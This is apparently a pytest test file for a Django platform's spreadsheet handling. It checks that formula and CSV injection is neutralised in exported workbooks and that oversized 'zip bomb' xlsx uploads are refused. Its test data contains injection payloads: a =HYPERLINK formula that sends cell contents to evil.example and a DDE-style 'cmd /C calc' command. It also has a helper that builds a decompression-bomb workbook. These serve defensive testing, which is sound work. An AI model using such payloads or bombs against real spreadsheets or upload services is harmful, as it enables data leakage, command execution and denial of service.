"""One writer for every workbook the platform writes (no live formula in any cell, headers
included), and workbooks refused by what they would take to read before anything loads them."""

import io
import re
import time
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from zhengai.core import workbook
from zhengai.core.output import render, write_xlsx

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = ['=HYPERLINK("http://evil.example/?q="&A1,"点这里")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
           "\t=1+1", "\r=1+1"]
WRITES = re.compile(r"openpyxl import[^\n]*\bWorkbook\b|openpyxl\.Workbook\b|\bload_workbook\b|xlsxwriter|"
                    r"openpyxl\.reader|openpyxl\.writer")


def test_it_writes_and_reads_workbooks_only_through_the_one_module():
    offenders = []
    for path in sorted(ROOT.rglob("*.py")):
        rel = path.relative_to(ROOT).as_posix()
        if "/tests/" in rel or "/migrations/" in rel or rel == "core/workbook.py":
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            if WRITES.search(line):
                offenders.append(f"zhengai/{rel}:{number}: {line.strip()}")
    assert not offenders, "make workbooks with zhengai.core.workbook (new/write_sheets/load):\n" + "\n".join(offenders)


def test_it_still_finds_a_module_that_makes_its_own_workbook():
    assert WRITES.search("    from openpyxl import Workbook")
    assert WRITES.search("from openpyxl import load_workbook")
    assert not WRITES.search("from zhengai.core import workbook")


def _raw_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))


@pytest.mark.parametrize("text", HOSTILE)
def test_streamed_sheets_neutralise_every_cell_and_the_header(text):
    data = workbook.xlsx_bytes({"表": ([text, "学号"], [[text, 5, "-5", None]])})

    rows = list(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))
    assert rows[0][:2] == ("'" + text, "学号")
    assert rows[1][:3] == ("'" + text, 5, "-5")
    assert "<f>" not in _raw_xml(data)


@pytest.mark.parametrize("text", HOSTILE)
def test_an_editable_workbook_is_neutralised_when_it_is_saved(text):
    wb = workbook.new()
    ws = wb.active
    ws.append(["标题", text])
    ws.cell(3, 3, text)
    ws.title = "任务"
    out = io.BytesIO()
    wb.save(out)

    xml = _raw_xml(out.getvalue())
    assert "<f>" not in xml
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    assert sheet["B1"].value == "'" + text and sheet["C3"].value == "'" + text
    assert sheet["B1"].data_type == "s"


def test_csv_output_neutralises_the_header_too():
    text = render([["=1+1", "-3"]], ["=HYPERLINK(1)", "b"], "csv")
    assert text.splitlines() == ["'=HYPERLINK(1),b", "'=1+1,-3"]


def test_the_rejects_file_header_taken_from_the_upload_is_not_a_formula(college, tmp_path):
    from zhengai.intake.files import import_file, write_rejects

    header = '学号,姓名,性别,班级代码,"=HYPERLINK(""http://evil.example"",""x"")"\n'
    path = tmp_path / "s.csv"
    path.write_text(header + "2024004,赵六,女,NOPE,1\n", encoding="utf-8")
    batch = import_file(college.source, "students", str(path), partial=True)
    out = tmp_path / "rejects.xlsx"
    write_rejects(batch, out)

    xml = _raw_xml(out.read_bytes())
    assert "<f>" not in xml
    header_row = [c.value for c in load_workbook(out).active[1]]
    assert all(not str(v).startswith("=") for v in header_row if v)


def test_the_task_table_export_writes_goal_text_as_text(college, cast):
    from zhengai.chains import goals, seedtable
    from zhengai.chains.choices import GoalKind
    from zhengai.chains.models import Goal
    from zhengai.chains.tasks_export import export_table
    from zhengai.chains.tasks_io import import_table

    source = io.BytesIO()
    seedtable.build_workbook(source)
    source.seek(0)
    import_table(source, acting_user=cast.alice)
    goal = Goal.objects.filter(kind=GoalKind.DEPARTMENT_TASK).order_by("pk").first()
    goals.do_update_goal(goal, title='=HYPERLINK("http://evil.example","x")', acting_user=cast.alice)

    out = io.BytesIO()
    export_table(out)

    assert "<f>" not in _raw_xml(out.getvalue())
    values = [c.value for row in load_workbook(io.BytesIO(out.getvalue())).active.iter_rows() for c in row]
    assert "'=HYPERLINK(\"http://evil.example\",\"x\")" in values


def test_the_old_output_helper_is_the_one_writer_too():
    out = io.BytesIO()
    write_xlsx(out, {"s": (["@cmd"], [["=1"]])})
    assert list(load_workbook(out).active.iter_rows(values_only=True)) == [("'@cmd",), ("'=1",)]


# Reading: bombs -------------------------------------------------------------------------------

def bomb(path: Path, rows: int = 1_000_000, cols: int = 10, dimension: bool = False) -> Path:
    """A valid .xlsx whose one sheet holds ``rows`` x ``cols`` cells: under a megabyte on disk,
    about 150 MB unpacked (cells carry no reference, so every row compresses to the same bytes)."""
    row = b"<row>" + b"<c><v>1</v></c>" * cols + b"</row>"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>')
        z.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
        z.writestr("xl/workbook.xml", '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>')
        z.writestr("xl/_rels/workbook.xml.rels", '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>')
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')
            if dimension:
                sheet.write(f'<dimension ref="A1:{chr(64 + cols)}{rows}"/>'.encode())
            sheet.write(b"<sheetData>")
            block = row * 10_000
            for _ in range(rows // 10_000):
                sheet.write(block)
            sheet.write(b"</sheetData></worksheet>")
    return path


@pytest.fixture(scope="module")
def xlsx_bomb(tmp_path_factory):
    return bomb(tmp_path_factory.mktemp("bomb") / "学生.xlsx")


def test_the_bomb_is_small_on_disk_and_huge_unpacked(xlsx_bomb):
    with zipfile.ZipFile(xlsx_bomb) as z:
        unpacked = sum(i.file_size for i in z.infolist())
    assert xlsx_bomb.stat().st_size < 1024 * 1024 and unpacked > 140 * 1024 * 1024


def test_a_bomb_is_refused_on_the_command_line_before_it_is_loaded(college, xlsx_bomb, capsys):
    started = time.monotonic()
    with pytest.raises(SystemExit):
        call_command("import", "--source", college.source.code, "--table", "students", str(xlsx_bomb))
    elapsed = time.monotonic() - started

    err = capsys.readouterr().err
    assert "Excel 文件中的单元格超过了导入上限 2,000,000 个。请拆分成几个文件，或另存为 CSV 后导入。" in err
    assert elapsed < 15


def test_a_bomb_is_refused_on_the_upload_page_with_the_reason(client, cast, college, xlsx_bomb):
    from zhengai.datacenter.choices import BatchStatus
    from zhengai.datacenter.models import ImportBatch

    client.force_login(cast.alice)
    started = time.monotonic()
    response = client.post(reverse("intake:import"), {
        "source": college.source.pk, "table": "students",
        "file": SimpleUploadedFile("学生.xlsx", xlsx_bomb.read_bytes())}, follow=True)
    elapsed = time.monotonic() - started

    batch = ImportBatch.objects.get()
    assert batch.status == BatchStatus.REFUSED and batch.rows_read == 0
    assert "单元格超过了导入上限 2,000,000 个" in response.content.decode()
    assert elapsed < 15


def test_a_sheet_that_declares_too_many_cells_is_refused_from_its_dimension(tmp_path):
    path = bomb(tmp_path / "d.xlsx", rows=200_000, cols=20, dimension=True)
    with pytest.raises(workbook.WorkbookRefused) as refused:
        workbook.check_upload(path)
    assert str(refused.value) == ("Excel 文件的工作表声明了 200,000 行 × 20 列（4,000,000 个单元格），超过了导入上限 "
                                  "2,000,000 个单元格。请拆分成几个文件，或另存为 CSV 后导入。")


def test_a_workbook_over_the_uncompressed_limit_is_refused(tmp_path, settings):
    settings.ZHENGAI_IMPORT_MAX_XLSX_BYTES = 10 * 1024 * 1024
    path = bomb(tmp_path / "d.xlsx", rows=100_000, cols=10)
    with pytest.raises(workbook.WorkbookRefused) as refused:
        workbook.check_upload(path)
    assert "Excel 文件解压后有 15 MB，超过了导入上限 10 MB" in str(refused.value)


def test_an_ordinary_workbook_passes_and_its_file_position_is_kept(tmp_path):
    data = workbook.xlsx_bytes({"s": (["学号"], [[i] for i in range(1000)])})
    handle = io.BytesIO(data)
    handle.seek(7)
    workbook.check_upload(handle)
    assert handle.tell() == 7


@pytest.mark.parametrize("reader", ["standards", "tasks", "statedata"])
def test_the_other_workbook_imports_refuse_a_bomb_with_the_same_message(db, xlsx_bomb, reader):
    from zhengai.chains.xlsxutil import ImportProblems

    if reader == "standards":
        from zhengai.chains.standards_io import read_workbook as read
    elif reader == "tasks":
        from zhengai.chains.tasks_io import read_table as read
    else:
        from zhengai.statedata.templates_io import read_workbook as read
    with pytest.raises(ImportProblems) as refused:
        read(str(xlsx_bomb))
    assert "单元格超过了导入上限 2,000,000 个" in str(refused.value.problems if hasattr(refused.value, "problems") else refused.value)


def test_a_csv_over_the_row_limit_is_refused_with_the_limit(college, tmp_path, settings):
    from zhengai.datacenter.choices import BatchStatus
    from zhengai.intake.files import import_file

    settings.ZHENGAI_IMPORT_MAX_ROWS = 5
    path = tmp_path / "s.csv"
    path.write_text("学号,姓名,性别,班级代码\n" + "".join(f"20249{i:02},王{i},男,CNC2401\n" for i in range(10)), encoding="utf-8")

    batch = import_file(college.source, "students", str(path))

    assert batch.status == BatchStatus.REFUSED
    assert batch.error == "文件超过了导入上限 5 行（第 6 行起未读取）。请拆分成几个文件分批导入。"
